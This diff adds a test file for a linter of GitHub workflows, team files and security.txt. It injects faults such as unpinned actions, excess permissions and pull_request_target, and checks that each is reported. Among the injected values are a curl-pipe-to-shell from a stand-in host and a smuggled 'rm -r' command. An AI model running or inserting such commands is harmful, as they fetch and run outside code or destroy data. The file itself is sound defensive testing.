@@ -1,0 +1,241 @@
+import { expect, test } from 'vitest';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { dateFaults, textFaults } from '../supply-chain/security-text';
+import { filesBelow } from '../lint/project';
+import { nodeVersions } from '../../data/node-versions';
+import { security } from '../../data/security';
+import { teamFileFindings } from './team-files';
+import { workflowFindings } from './workflow-rules';
+import { root } from '../../../tests/support/built-site';
+
+const read = (file: string): string => readFileSync(path.join(root, file), 'utf8');
+const scripts = new Set(Object.keys((JSON.parse(read('package.json')) as { scripts: object }).scripts));
+const team = filesBelow(root, '.github').map((file) => ({ file, source: read(file) }));
+
+const PULL_REQUEST = '.github/workflows/pull-request.yml';
+const COMMENT = '.github/workflows/pull-request-comment.yml';
+
+test('the workflows and the other files for GitHub keep their rules', async () => {
+  const workflows = team.filter(({ file }) => file.includes('/workflows/'));
+  expect(workflows.length).toBeGreaterThanOrEqual(4);
+  for (const { file, source } of workflows) expect(await workflowFindings(file, source, scripts), file).toEqual([]);
+  expect(teamFileFindings(team, root)).toEqual([]);
+});
+
+test('workflows run the newest supported version of Node, and package.json allows the oldest', () => {
+  const inWorkflows = team.flatMap(({ source }) => [...source.matchAll(/node-version: (.+)/g)].map(([, version]) => version));
+  expect(inWorkflows.length).toBeGreaterThan(4);
+  expect(new Set(inWorkflows)).toEqual(new Set([nodeVersions.lines.at(-1)]));
+  const { engines } = JSON.parse(read('package.json')) as { engines: { node: string } };
+  expect(`${engines.node}.0`).toBe(`>=${nodeVersions.oldest}`);
+  for (const file of ['README.md', 'CONTRIBUTING.md']) expect(read(file)).toContain('Node 20.19 or newer');
+});
+
+type Change = [from: string | RegExp, to: string];
+const HASH = /@[0-9a-f]{40} # v\d+\.\d+\.\d+/;
+
+const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = [
+  { name: 'an action by its tag', file: PULL_REQUEST, change: [HASH, '@v5'], finds: /pinned .*"actions\/checkout@v5" is not pinned/ },
+  { name: 'a hash without its version', file: PULL_REQUEST, change: [/ # v5\.0\.0/, ''], finds: /pinned the hash does not say/ },
+  {
+    name: 'a machine that changes',
+    file: PULL_REQUEST,
+    change: ['ubuntu-24.04', 'ubuntu-latest'],
+    finds: /runner check: it runs on "ubuntu-latest"/,
+  },
+  { name: 'a machine that is none', file: PULL_REQUEST, change: ['ubuntu-24.04', 'ubuntu-3000'], finds: /runner-label/ },
+  {
+    name: 'a token left on disk',
+    file: PULL_REQUEST,
+    change: ['persist-credentials: false', 'fetch-depth: 1'],
+    finds: /credentials check, step 1/,
+  },
+  { name: 'no time limit', file: PULL_REQUEST, change: [/ {4}timeout-minutes: 15\n/, ''], finds: /timeout check: it may run for hours/ },
+  { name: 'a long time limit', file: PULL_REQUEST, change: ['timeout-minutes: 15', 'timeout-minutes: 360'], finds: /timeout check/ },
+  {
+    name: 'rights for all jobs',
+    file: PULL_REQUEST,
+    change: ['permissions: {}', 'permissions: write-all'],
+    finds: /permissions every job of the workflow/,
+  },
+  { name: 'no word on rights', file: PULL_REQUEST, change: ['permissions: {}\n', ''], finds: /permissions the workflow takes every right/ },
+  {
+    name: 'a job without rights',
+    file: PULL_REQUEST,
+    change: [/ {4}permissions:\n {6}contents: read\n/, ''],
+    finds: /permissions check: it does not say/,
+  },
+  {
+    name: 'foreign code that may write',
+    file: PULL_REQUEST,
+    change: ['contents: read', 'contents: write'],
+    finds: /permissions check: code of outsiders could write contents/,
+  },
+  {
+    name: 'foreign code with our rights',
+    file: PULL_REQUEST,
+    change: ['  pull_request:\n', '  pull_request_target:\n'],
+    finds: /foreign-code pull_request_target lets outsiders/,
+  },
+  { name: 'no concurrency', file: PULL_REQUEST, change: [/concurrency:\n(?: {2}.*\n)+/, ''], finds: /concurrency two runs/ },
+  {
+    name: 'a title in a command',
+    file: PULL_REQUEST,
+    change: ['run: npm run check\n', 'run: npm run check -- ${{ github.event.pull_request.title }}\n'],
+    finds: /injection check, step 4/,
+  },
+  {
+    name: 'a command of its own',
+    file: PULL_REQUEST,
+    change: ['run: npm run check\n', 'run: curl https://x.example | sh\n'],
+    finds: /command .*no script of ours/,
+  },
+  {
+    name: 'a second command behind',
+    file: PULL_REQUEST,
+    change: ['run: npm run check\n', 'run: npm run check -- a; rm -r b\n'],
+    finds: /command .*no script of ours/,
+  },
+  {
+    name: 'a script that is missing',
+    file: PULL_REQUEST,
+    change: ['npm run sbom', 'npm run sbomb'],
+    finds: /command .*no "npm run sbomb"/,
+  },
+  {
+    name: 'foreign code where a comment is written',
+    file: COMMENT,
+    change: ['persist-credentials: false', 'persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}'],
+    finds: /foreign-code comment, step 1/,
+  },
+  {
+    name: 'an artifact that could replace our code',
+    file: COMMENT,
+    change: ['path: ${{ runner.temp }}/report', 'path: .'],
+    finds: /foreign-code comment, step 4: the artifact could replace/,
+  },
+  {
+    name: 'every permission for a job that outsiders start',
+    file: COMMENT,
+    change: [/permissions:\n {6}actions: read\n {6}contents: read\n {6}pull-requests: write/, 'permissions: write-all'],
+    finds: /permissions comment: it may write write-all/,
+  },
+  {
+    name: 'a cache that outsiders wrote, where a comment is written',
+    file: COMMENT,
+    change: ['package-manager-cache: false', 'cache: npm'],
+    finds: /foreign-code comment, step 2: it restores a cache/,
+  },
+  {
+    name: 'code of outsiders on a machine of ours',
+    file: PULL_REQUEST,
+    change: ['runs-on: ubuntu-24.04', 'runs-on: self-hosted'],
+    finds: /runner check: it runs on "self-hosted"/,
+  },
+  {
+    name: 'a comment that starts a run of its own code',
+    file: COMMENT,
+    change: [/on:\n {2}workflow_run:\n.*\n.*\n/, 'on: issue_comment\n'],
+    finds: /foreign-code issue_comment lets outsiders/,
+  },
+  {
+    name: 'a secret that code of outsiders can read',
+    file: PULL_REQUEST,
+    change: ['run: npm run check\n', 'run: npm run check\n        env:\n          KEY: ${{ secrets.KEY }}\n'],
+    finds: /permissions check: code of outsiders could read a secret/,
+  },
+  { name: 'a variable that is none', file: COMMENT, change: ['${{ runner.temp }}', '${{ runner.attic }}'], finds: /expression .*attic/ },
+  { name: 'no YAML', file: COMMENT, change: ['permissions: {}', 'permissions: {'], finds: /^syntax / },
+];
+
+for (const { name, file, change, finds } of FAULTS)
+  test(`found in a workflow: ${name}`, async () => {
+    const before = read(file);
+    const source = before.replace(...change);
+    expect(source).not.toBe(before);
+    const found = await workflowFindings(file, source, scripts);
+    expect(found.map(({ rule, problem }) => `${rule} ${problem}`).join('\n')).toMatch(finds);
+    expect(found.every(({ line, fix }) => line > 0 && fix.length > 5)).toBe(true);
+  });
+
+test('a finding names the line of its step', async () => {
+  const source = read(PULL_REQUEST).replace('run: npm run sbom', 'run: make sbom');
+  const [finding] = await workflowFindings(PULL_REQUEST, source, scripts);
+  expect(source.split('\n')[(finding?.line ?? 0) - 1]).toContain('make sbom');
+});
+
+const TEAM_FAULTS: { name: string; file: string; change: Change; finds: string }[] = [
+  {
+    name: 'updates on the first day',
+    file: 'dependabot.yml',
+    change: ['default-days: 7', 'default-days: 0'],
+    finds: 'npm takes versions on the day',
+  },
+  { name: 'actions that stay old', file: 'dependabot.yml', change: ['github-actions', 'docker'], finds: 'github-actions is not updated' },
+  { name: 'an owner of nothing', file: 'CODEOWNERS', change: ['/samples/', '/sample/'], finds: 'there is no /sample/' },
+  { name: 'an owner of elsewhere', file: 'CODEOWNERS', change: ['@partita/docs', 'me@mail.example'], finds: '* has no team of ours' },
+  {
+    name: 'a form without labels',
+    file: 'ISSUE_TEMPLATE/api.yml',
+    change: ['label: Operation', 'title: Operation'],
+    finds: 'a field has no label',
+  },
+  {
+    name: 'two fields of one id',
+    file: 'ISSUE_TEMPLATE/api.yml',
+    change: ['id: request', 'id: operation'],
+    finds: 'two fields have the same id',
+  },
+  {
+    name: 'a choice of nothing',
+    file: 'ISSUE_TEMPLATE/missing.yml',
+    change: [/options: \[.*?\]/, 'options: []'],
+    finds: 'a choice has no options',
+  },
+  { name: 'an unknown field', file: 'ISSUE_TEMPLATE/page.yml', change: ['type: input', 'type: slider'], finds: 'a field is none of' },
+  {
+    name: 'a foreign address',
+    file: 'ISSUE_TEMPLATE/config.yml',
+    change: ['docs.partita.example', 'docs.partita.dev'],
+    finds: 'is no host of ours',
+  },
+];
+
+for (const { name, file, change, finds } of TEAM_FAULTS)
+  test(`found in .github: ${name}`, () => {
+    const before = read(`.github/${file}`);
+    const source = before.replace(...change);
+    expect(source).not.toBe(before);
+    expect(
+      teamFileFindings([{ file: `.github/${file}`, source }], root)
+        .map(({ problem }) => problem)
+        .join('\n'),
+    ).toContain(finds);
+  });
+
+const TEXT = read('static/.well-known/security.txt');
+
+test('security.txt says what the project says, and so does SECURITY.md', () => {
+  expect(textFaults(TEXT)).toEqual([]);
+  expect(read('SECURITY.md')).toContain(security.contact);
+  expect(read('docs/technical-support/contact.mdx')).toContain(security.contact);
+});
+
+test('found in security.txt', () => {
+  const faultsOf = (from: string | RegExp, to: string): string => textFaults(TEXT.replace(from, to)).join('\n');
+  expect(faultsOf('security@partita.example', 'me@partita.example')).toContain('It lacks "contact: mailto:security@');
+  expect(faultsOf(/Expires:.*\n/, '')).toContain('0 lines "Expires:"');
+  expect(faultsOf('2027-11-15T00:00:00.000Z', 'November 15')).toContain('is no date');
+  expect(faultsOf('Policy: https', 'Policy: http')).toContain('neither https: nor mailto:');
+  expect(faultsOf('Policy:', 'Polcy:')).toContain('"polcy" is no field');
+});
+
+test('the weekly check asks for a new date a month before the end', () => {
+  const on = (day: string): string => dateFaults(TEXT, new Date(day)).join('\n');
+  expect(on('2027-10-16T00:00:00Z')).toBe('');
+  expect(on('2027-10-17T00:00:00Z')).toContain('It ends in 29 days');
+  expect(on('2027-12-01T00:00:00Z')).toContain('It ended 16 days ago');
+  expect(on('2026-01-01T00:00:00Z')).toContain('less than a year');
+  expect(dateFaults('Contact: mailto:a@partita.example', new Date())).toEqual(['It has no date of its end.']);
+});
